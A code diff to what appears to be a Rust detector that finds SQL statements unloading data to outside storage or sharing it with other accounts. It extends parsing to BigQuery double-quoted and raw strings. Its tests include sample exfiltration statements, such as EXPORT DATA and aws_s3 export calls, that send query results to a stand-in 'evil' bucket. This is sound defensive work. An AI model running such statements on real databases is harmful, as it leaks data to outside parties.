@@ -5,12 +5,16 @@
 //! And those that let another account in: `ALTER SHARE … ADD ACCOUNTS = …` (Snowflake), `GRANT … ON DATASHARE … TO ACCOUNT
 //! '…'` (Redshift), ``GRANT `roles/…` … TO "user:…"`` (BigQuery).
 
-/// The address that a statement unloads into.
+/// The address that a statement unloads into. Only BigQuery has texts in double quotes.
 pub(super) fn target(text: &str) -> Option<String> {
+    target_in(text, '\'').or_else(|| target_in(text, '"').filter(|target| target.starts_with("gs://")))
+}
+
+fn target_in(text: &str, quote: char) -> Option<String> {
     let mut before = "";
     let mut whole = String::new();
     // What stands between quotes is every second part; a doubled quote begins and ends an empty one.
-    for (at, part) in text.split('\'').enumerate() {
+    for (at, part) in text.split(quote).enumerate() {
         if at % 2 == 0 {
             before = part;
             whole.push_str(&part.to_ascii_lowercase());
@@ -31,8 +35,10 @@ pub(super) fn target(text: &str) -> Option<String> {
     None
 }
 
+/// The word before a text that begins here; an `r` right before it says that it is raw.
 fn last_word(text: &str) -> String {
-    let text = text.trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('));
+    let raw = text.strip_suffix(['r', 'R']).filter(|front| !front.ends_with(char::is_alphanumeric));
+    let text = raw.unwrap_or(text).trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('));
     let word = text.rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next();
     word.unwrap_or_default().to_ascii_lowercase()
 }
@@ -103,6 +109,12 @@ mod tests {
                 "EXPORT DATA OPTIONS ( uri = 'gs://evil/*.csv', format='CSV') AS SELECT 1",
                 Some("gs://evil/*.csv"),
             ),
+            (
+                "EXPORT DATA OPTIONS(uri=\"gs://evil/x*\", format=\"CSV\") AS SELECT 'it' FROM t",
+                Some("gs://evil/x*"),
+            ),
+            ("export data options(format='CSV', uri = r\"gs://evil/x*\") as select 1", Some("gs://evil/x*")),
+            ("select \"uri\" from t where a = \"gs://b/x\"", None),
             (
                 "select aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('evil', 'x', 'r'))",
                 Some("s3://evil"),
